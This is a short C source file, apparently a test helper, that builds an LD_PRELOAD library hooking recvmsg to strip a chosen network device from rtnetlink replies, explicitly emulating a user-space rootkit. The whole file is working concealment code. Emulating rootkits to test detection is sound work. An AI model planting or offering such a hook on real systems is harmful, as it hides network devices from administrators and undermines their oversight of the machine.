// SPDX-License-Identifier: GPL-2.0
/*
 * hidedev.so: preloaded into a program, takes the device $HIDEDEV out of the
 * answers of rtnetlink, as a rootkit in user space would.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <linux/if_link.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static int is_hidden(const struct nlmsghdr *msg, const char *name)
{
	const struct ifinfomsg *head = NLMSG_DATA(msg);
	int len = IFLA_PAYLOAD(msg);
	const struct rtattr *attr;

	if (msg->nlmsg_type != RTM_NEWLINK || !name)
		return 0;
	for (attr = IFLA_RTA(head); RTA_OK(attr, len); attr = RTA_NEXT(attr, len))
		if (attr->rta_type == IFLA_IFNAME && !strcmp(RTA_DATA(attr), name))
			return 1;
	return 0;
}

static ssize_t filter(char *buf, ssize_t len)
{
	const char *name = getenv("HIDEDEV");
	ssize_t at = 0;

	while (at + (ssize_t)sizeof(struct nlmsghdr) <= len) {
		struct nlmsghdr *msg = (void *)(buf + at);
		ssize_t size = NLMSG_ALIGN(msg->nlmsg_len);

		if (msg->nlmsg_len < sizeof(*msg) || at + (ssize_t)msg->nlmsg_len > len)
			break;
		if (size > len - at)
			size = len - at;
		if (is_hidden(msg, name)) {
			memmove(buf + at, buf + at + size, len - at - size);
			len -= size;
		} else {
			at += size;
		}
	}
	return len;
}

/*
 * As a datagram that is empty is the end to some, one that only had the hidden
 * device is not passed on: the next one comes instead.
 */
ssize_t recvmsg(int fd, struct msghdr *msg, int flags)
{
	ssize_t (*next)(int, struct msghdr *, int) = dlsym(RTLD_NEXT, "recvmsg");
	const struct sockaddr_nl *from;
	ssize_t len, left;

	do {
		len = left = next(fd, msg, flags);
		from = msg->msg_name;
		if (len <= 0 || flags & MSG_PEEK || !from || msg->msg_namelen != sizeof(*from) ||
		    from->nl_family != AF_NETLINK || (size_t)len > msg->msg_iov[0].iov_len)
			return len;
		left = filter(msg->msg_iov[0].iov_base, len);
	} while (!left);
	return left;
}
